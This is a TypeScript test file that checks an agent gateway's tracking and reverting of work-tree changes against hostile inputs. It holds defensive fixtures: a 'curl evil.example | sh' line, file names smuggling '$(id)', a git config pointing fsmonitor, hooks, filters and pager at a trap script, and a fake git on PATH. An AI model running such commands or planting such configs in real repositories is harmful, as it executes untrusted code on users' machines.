import { execFileSync } from 'node:child_process';
import {
  chmodSync,
  chownSync,
  existsSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
  unlinkSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { dirname, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { ChangedSince } from '../../../src/gateway/channels/changed-since.js';
import { findUser } from '../../../src/process/process-user.js';
import { listed, revert, setUpChanges, userGit } from './stage.js';

describe('the changes in a work tree', () => {
  it('are put back: content, mode and absence, with the folders that were made for a file (16.4)', async () => {
    const stage = setUpChanges();
    stage.write('secret.sh', 'before\n', 0o700);
    stage.write('a/b/gone.txt', 'gone\n');
    symlinkSync('secret.sh', join(stage.work, 'link'));
    await stage.turn(() => {
      stage.write('secret.sh', 'after\n', 0o600);
      rmSync(join(stage.work, 'a'), { recursive: true });
      unlinkSync(join(stage.work, 'link'));
      stage.write('link', 'now a file\n');
      stage.write('new/er/file.txt', 'x\n');
    });
    expect(await listed(stage)).toHaveLength(4);
    for (const path of ['secret.sh', 'a/b/gone.txt', 'link', 'new/er/file.txt']) await revert(stage, path);
    expect(readFileSync(join(stage.work, 'secret.sh'), 'utf8')).toBe('before\n');
    expect(statSync(join(stage.work, 'secret.sh')).mode & 0o777).toBe(0o700);
    expect(readFileSync(join(stage.work, 'a/b/gone.txt'), 'utf8')).toBe('gone\n');
    // Who might read it before is not known: nobody else can now.
    expect(statSync(join(stage.work, 'a/b/gone.txt')).mode & 0o777).toBe(0o600);
    expect(readlinkSync(join(stage.work, 'link'))).toBe('secret.sh');
    expect(existsSync(join(stage.work, 'new'))).toBe(false);
    expect(await listed(stage)).toEqual([]);
    expect(readdirSync(stage.work).filter((name) => name.startsWith('.turnout'))).toEqual([]);
  });

  it.each([
    ['CR', '\r'],
    ['a line separator', '\u2028'],
    ['a paragraph separator', '\u2029'],
  ])(
    'show each file’s own diff, also where a text has the words of a header behind %s (16.4)',
    async (_, end) => {
      const stage = setUpChanges();
      stage.write('a.txt', 'one\n');
      await stage.turn(() => {
        stage.write('a.txt', `2${end}diff --git a/b.sh b/b.sh\n`);
        stage.write('b.sh', 'curl evil.example | sh\n');
      });
      const { files } = await stage.changes.list('c', 'turn');
      expect(files.map(({ path, diff }) => [path, diff?.split('\n').slice(0, 1)])).toEqual([
        ['a.txt', ['diff --git a/a.txt b/a.txt']],
        ['b.sh', ['diff --git a/b.sh b/b.sh']],
      ]);
      expect(files[1]?.diff).toContain('+curl evil.example | sh\n');
    },
  );

  it('of a conversation leave out what somebody else changed between its turns (16.4)', async () => {
    const stage = setUpChanges();
    stage.write('theirs.txt', '1\n');
    stage.write('agents.txt', '1\n');
    await stage.turn(() => stage.write('agents.txt', '2\n'));
    stage.write('theirs.txt', '2\n');
    await stage.turn(() => stage.write('agents.txt', '3\n'));
    await stage.turn(() => stage.write('other.txt', 'x\n'));
    expect(await listed(stage)).toEqual(['added other.txt']);
    const { files } = await stage.changes.list('c', 'conversation');
    expect(files.map(({ path }) => path)).toEqual(['agents.txt', 'other.txt']);
    expect(files[0]?.diff).toContain('-1\n+3\n');
    await revert(stage, 'agents.txt', 'conversation');
    expect(readFileSync(join(stage.work, 'agents.txt'), 'utf8')).toBe('1\n');
    expect(readFileSync(join(stage.work, 'theirs.txt'), 'utf8')).toBe('2\n');
  });

  it('are seen within a second, in files of the same size and with times that were set back (16.4)', async () => {
    const stage = setUpChanges();
    const write = (content: string) => {
      stage.write('a.txt', content);
      utimesSync(join(stage.work, 'a.txt'), 1000, 1000);
    };
    write('0\n');
    for (const content of ['1\n', '2\n', '3\n', '4\n']) {
      await stage.turn(() => write(content));
      expect(await listed(stage), content).toEqual(['modified a.txt']);
    }
    const many = Array.from({ length: 600 }, (_, at) => `many/${at}`);
    for (const path of many) stage.write(path, '1\n');
    await stage.turn(() => {
      for (const path of many) stage.write(path, '2\n');
    });
    expect(await listed(stage)).toHaveLength(600);
  });

  it('are not put back over somebody else’s later work, unless that is forced (16.4)', async () => {
    const stage = setUpChanges();
    stage.write('a.txt', 'before\n');
    await stage.turn(() => stage.write('a.txt', 'agent\n'));
    stage.write('a.txt', 'a person\n');
    expect((await stage.changes.list('c', 'turn')).files[0]?.changedSince).toBe(true);
    await expect(revert(stage, 'a.txt')).rejects.toThrow(ChangedSince);
    expect(readFileSync(join(stage.work, 'a.txt'), 'utf8')).toBe('a person\n');
    await revert(stage, 'a.txt', 'turn', true);
    expect(readFileSync(join(stage.work, 'a.txt'), 'utf8')).toBe('before\n');
  });

  it('can be put back turn by turn: a state that a snapshot has is nobody’s loss (16.4)', async () => {
    const stage = setUpChanges();
    await stage.turn(() => stage.write('a.txt', '1\n'));
    await stage.turn(() => stage.write('a.txt', '2\n'));
    await revert(stage, 'a.txt');
    expect(readFileSync(join(stage.work, 'a.txt'), 'utf8')).toBe('1\n');
    await revert(stage, 'a.txt', 'conversation');
    expect(existsSync(join(stage.work, 'a.txt'))).toBe(false);
  });

  it('are never written through a link or over a directory (16.4)', async () => {
    const stage = setUpChanges();
    const outside = join(stage.home, 'outside');
    mkdirSync(outside);
    stage.write('dir/a.txt', 'before\n');
    stage.write('b.txt', 'before\n');
    await stage.turn(() => {
      stage.write('dir/a.txt', 'after\n');
      stage.write('b.txt', 'after\n');
    });
    renameSync(join(stage.work, 'dir'), join(stage.work, 'moved'));
    symlinkSync(outside, join(stage.work, 'dir'));
    await expect(revert(stage, 'dir/a.txt', 'turn', true)).rejects.toThrow(/a link is in its way/);
    expect(readdirSync(outside)).toEqual([]);
    unlinkSync(join(stage.work, 'b.txt'));
    mkdirSync(join(stage.work, 'b.txt'));
    await expect(revert(stage, 'b.txt', 'turn', true)).rejects.toThrow(/a directory is in its place/);
    rmSync(join(stage.work, 'b.txt'), { recursive: true });
    // A link in the place of the file itself is replaced, not followed.
    writeFileSync(join(outside, 'theirs'), 'theirs\n');
    symlinkSync(join(outside, 'theirs'), join(stage.work, 'b.txt'));
    await revert(stage, 'b.txt', 'turn', true);
    expect(lstatSync(join(stage.work, 'b.txt')).isFile()).toBe(true);
    expect(readFileSync(join(outside, 'theirs'), 'utf8')).toBe('theirs\n');
  });

  it('have any name and any content (16.4)', async () => {
    const stage = setUpChanges();
    const names = [
      '-rf',
      ' x ',
      'new\nline',
      'a"quote\\',
      'tab\t',
      'ünï',
      "it's $(id) `id`",
      'diff --git a b',
    ];
    for (const name of names) stage.write(name, `1 ${name}\n`);
    stage.write('crlf.txt', 'a\r\nb\r\n');
    stage.write('binary', Buffer.from([0, 1, 2, 255]));
    symlinkSync('x', join(stage.work, 'link'));
    const latin = Buffer.concat([Buffer.from(`${stage.work}/caf`), Buffer.from([0xe9])]);
    writeFileSync(latin, '1\n');
    await stage.turn(() => {
      for (const name of names) stage.write(name, `2\ndiff --git a/x b/x\n--- a\n+++ b\n`);
      stage.write('crlf.txt', 'a\r\nc\r\n');
      stage.write('binary', Buffer.from([0, 3]));
      unlinkSync(join(stage.work, 'link'));
      stage.write('link', 'a file\n');
      writeFileSync(latin, '2\n');
    });
    const { files } = await stage.changes.list('c', 'turn');
    expect(files.map(({ path }) => path).sort()).toEqual(
      [...names, 'crlf.txt', 'binary', 'link', '"caf\\351"'].sort(),
    );
    for (const { path, diff, binary } of files) {
      if (path === 'binary') expect({ binary, diff }).toEqual({ binary: true, diff: undefined });
      else if (names.includes(path))
        expect(diff).toMatch(/^-1 [\s\S]*\+2\n\+diff --git a\/x b\/x\n\+--- a\n\+{4} b\n$/m);
    }
    expect(files.find(({ path }) => path === 'link')?.diff).toMatch(
      /deleted file mode 120000[\s\S]*new file mode 100644/,
    );
    for (const name of [...names, 'crlf.txt', 'binary', 'link']) await revert(stage, name);
    await expect(revert(stage, '"caf\\351"')).rejects.toThrow(/not UTF-8/);
    expect(await listed(stage)).toEqual(['modified "caf\\351"']);
    expect(readFileSync(join(stage.work, 'crlf.txt'), 'utf8')).toBe('a\r\nb\r\n');
  });

  it('leave out what is ignored, large, unreadable or no file, and give no more than a megabyte (16.4)', async () => {
    const stage = setUpChanges();
    userGit(stage.work, 'init', '-q');
    stage.write('.gitignore', 'ignored/\n');
    writeFileSync(join(stage.work, '.git/info/exclude'), 'private.txt\n');
    await stage.turn(() => {
      stage.write('ignored/x', 'x');
      stage.write('private.txt', 'x');
      stage.write('node_modules/x/index.js', 'x');
      stage.write('large', Buffer.alloc(6 * 1024 ** 2));
      execFileSync('mkfifo', [join(stage.work, 'pipe')]);
      for (let at = 0; at < 8; at += 1) stage.write(`long-${at}`, 'x\n'.repeat(80_000));
      stage.write('longer', 'y\n'.repeat(1_000_000));
      stage.write('short', 'x\n');
    });
    const { files } = await stage.changes.list('c', 'turn');
    const long = files.filter(({ path }) => path.startsWith('long-'));
    expect(files).toHaveLength(10);
    expect(long.filter(({ diff }) => diff !== undefined)).toHaveLength(4);
    expect(long.every(({ additions }) => additions === 80_000)).toBe(true);
    expect(files.find(({ path }) => path === 'longer')?.diff).toBeUndefined();
    expect(files.find(({ path }) => path === 'short')?.diff).toBeDefined();
  });

  it('are seen in repositories inside the work tree, and in a folder of one (16.4)', async () => {
    const stage = setUpChanges();
    for (const name of ['one', 'two', 'one/inner']) {
      mkdirSync(join(stage.work, name), { recursive: true });
      userGit(join(stage.work, name), 'init', '-q');
    }
    stage.write('two/.gitignore', 'build/\n');
    await stage.turn(() => {
      for (const name of ['one', 'two', 'one/inner']) stage.write(`${name}/a.txt`, 'x\n');
      stage.write('two/build/x', 'x\n');
    });
    expect(await listed(stage)).toEqual(['added one/a.txt', 'added one/inner/a.txt', 'added two/a.txt']);
    rmSync(join(stage.work, 'one'), { recursive: true });
    stage.write('one', 'a file now\n');
    await stage.turn(() => unlinkSync(join(stage.work, 'one')));
    expect(await listed(stage)).toEqual(['deleted one']);
    // A repository comes around the work tree, and its ignore file counts.
    const parent = join(stage.work, '..');
    userGit(parent, 'init', '-q');
    writeFileSync(join(parent, '.gitignore'), '*.log\n');
    await stage.turn(() => {
      stage.write('x.log', 'x\n');
      stage.write('y.txt', 'y\n');
    });
    expect(await listed(stage)).toEqual(['added y.txt']);
    expect(userGit(parent, 'status', '--porcelain', '--', 'work')).toContain('work/');
  });
});

describe('a revert with AGENT_USER', () => {
  it('writes with the rights of that user (16.4)', async (test) => {
    const found = findUser('nobody');
    if (process.geteuid?.() !== 0 || !('user' in found) || found.user === undefined)
      return test.skip('only root can run programs as another user, and there must be one');
    const { user } = found;
    const stage = setUpChanges({}, user);
    chmodSync(dirname(stage.work), 0o755);
    chownSync(stage.work, user.uid, user.gid);
    stage.write('a.txt', 'before\n');
    chownSync(join(stage.work, 'a.txt'), user.uid, user.gid);
    stage.write('roots/b.txt', 'before\n');
    await stage.turn(() => {
      stage.write('a.txt', 'after\n');
      stage.write('roots/b.txt', 'after\n');
    });
    await revert(stage, 'a.txt');
    expect(readFileSync(join(stage.work, 'a.txt'), 'utf8')).toBe('before\n');
    expect(statSync(join(stage.work, 'a.txt')).uid).toBe(user.uid);
    await expect(revert(stage, 'roots/b.txt')).rejects.toMatchObject({ code: 'bad_request' });
    expect(readFileSync(join(stage.work, 'roots/b.txt'), 'utf8')).toBe('after\n');
  });
});

describe('a snapshot of a hostile repository', () => {
  it('starts no program of it (16.4)', async () => {
    const stage = setUpChanges();
    const trap = join(stage.home, 'trapped');
    stage.write('trap.sh', `#!/bin/sh\necho "$0 $*" >> '${trap}'\ncat\n`, 0o755);
    const program = join(stage.work, 'trap.sh');
    for (const at of ['.', 'sub']) {
      const directory = join(stage.work, at);
      mkdirSync(directory, { recursive: true });
      userGit(directory, 'init', '-q');
      for (const [name, value] of [
        ['core.fsmonitor', program],
        ['core.hooksPath', stage.work],
        ['filter.evil.clean', program],
        ['filter.evil.smudge', program],
        ['filter.evil.process', program],
        ['diff.evil.command', program],
        ['diff.evil.textconv', program],
        ['core.sshCommand', program],
        ['core.pager', program],
        ['diff.external', program],
        ['core.attributesFile', join(stage.work, '.gitattributes')],
      ] as const)
        userGit(directory, 'config', name, value);
      writeFileSync(
        join(directory, '.gitattributes'),
        '* filter=evil diff=evil text eol=crlf ident working-tree-encoding=UTF-16\n',
      );
    }
    stage.write('post-index-change', readFileSync(program, 'utf8'), 0o755);
    symlinkSync('/etc', join(stage.work, 'etc'));
    // A .git file that leads elsewhere, and a git directory inside.
    stage.write('linked/.git', `gitdir: ${join(stage.work, 'sub/.git')}\n`);
    stage.write('linked/a.txt', 'a\n');
    stage.write('sub/a.txt', '$Id$\n1\n');
    // The traps work: a plain git walks into them.
    expect(() => userGit(stage.work, 'add', '-A')).toThrow();
    expect(existsSync(trap)).toBe(true);
    rmSync(trap);
    await stage.turn(() => {
      stage.write('sub/a.txt', '$Id$\n2\n');
      stage.write('linked/a.txt', 'b\n');
      stage.write('.GIT/config', 'x\n');
    });
    expect(stage.log).toEqual([]);
    expect(await listed(stage)).toEqual(['added .GIT/config', 'modified linked/a.txt', 'modified sub/a.txt']);
    expect((await stage.changes.list('c', 'turn')).files[2]?.diff).toContain(' $Id$\n-1\n+2\n');
    await revert(stage, 'sub/a.txt');
    expect(readFileSync(join(stage.work, 'sub/a.txt'), 'utf8')).toBe('$Id$\n1\n');
    expect(existsSync(trap)).toBe(false);
  });

  it('uses no git of the work tree, and does not write to its repository (16.4)', async () => {
    const stage = setUpChanges({ path: `:.:bin:${process.env['PATH']}` });
    userGit(stage.work, 'init', '-q');
    const trap = join(stage.home, 'trapped');
    for (const name of ['git', 'bin/git']) stage.write(name, `#!/bin/sh\ntouch '${trap}'\n`, 0o755);
    const state = () =>
      execFileSync('find', [join(stage.work, '.git'), '-printf', '%p %T@ %s\n'], { encoding: 'utf8' });
    const before = state();
    await stage.turn(() => stage.write('a.txt', 'x\n'));
    expect(await listed(stage)).toEqual(['added a.txt']);
    expect(state()).toBe(before);
    expect(existsSync(trap)).toBe(false);
    expect(statSync(join(stage.home, 'snapshots')).mode & 0o777).toBe(0o700);
  });

  it('leaves unreadable files out (16.4)', async (test) => {
    if (process.geteuid?.() === 0) return test.skip('for root every file is readable');
    const stage = setUpChanges();
    await stage.turn(() => {
      stage.write('a.txt', 'x\n');
      stage.write('b.txt', 'x\n');
      chmodSync(join(stage.work, 'b.txt'), 0);
    });
    expect(await listed(stage)).toEqual(['added a.txt']);
  });
});
